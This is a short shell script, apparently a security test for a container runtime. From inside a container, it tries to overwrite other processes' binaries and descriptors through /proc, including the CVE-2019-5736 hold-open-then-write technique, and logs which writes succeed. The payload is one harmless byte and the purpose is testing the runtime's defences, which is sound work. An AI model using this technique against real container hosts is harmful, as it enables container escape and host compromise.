# Run inside a container by SecurityIT (busybox sh): tries to write the binary of every process it can see
# that is not the container's own program (strata's helper: the init of a pid namespace, a process joining
# for `oci exec`, the helper run again through `#!/proc/self/exe`), and through each of its descriptors.
# Prints "WROTE <path>" for every write that succeeded, "refused <path>" where it could not even look.
# $1: how many rounds (a joining helper lives only for moments); $2: a file that ends the loop when present.
self=$(readlink /proc/self/exe)
try_write() {
    if (printf x >> "$1") 2>/dev/null; then echo "WROTE $1"; return 0; fi
    if dd if=/dev/zero of="$1" bs=1 count=1 conv=notrunc 2>/dev/null; then echo "WROTE $1 (in place)"; return 0; fi
    return 1
}
# CVE-2019-5736: hold the binary open while it runs (writing it then is ETXTBSY) and write once nothing runs it.
write_after_exit() {
    ( exec 7< "$1" || exit 0
      echo "held $1"
      i=0
      while [ "$i" -lt 100 ]; do try_write /proc/self/fd/7 && exit 0; sleep 0.1; i=$((i + 1)); done ) 2>/dev/null &
}
attack() {
    p=/proc/$1
    exe=$(readlink "$p/exe" 2>/dev/null)
    [ "$exe" = "$self" ] && return
    [ -e "$p" ] || return
    if [ -z "$exe" ]; then echo "refused $p/exe"; fi
    try_write "$p/exe"
    for fd in "$p"/fd/*; do [ -e "$fd" ] && try_write "$fd"; done
    write_after_exit "$p/exe"
}
round=0
while [ "$round" -lt "$1" ] && ! [ -e "$2" ]; do
    for p in /proc/[0-9]*; do attack "${p#/proc/}"; done
    round=$((round + 1))
    sleep 0.05
done
wait
echo done
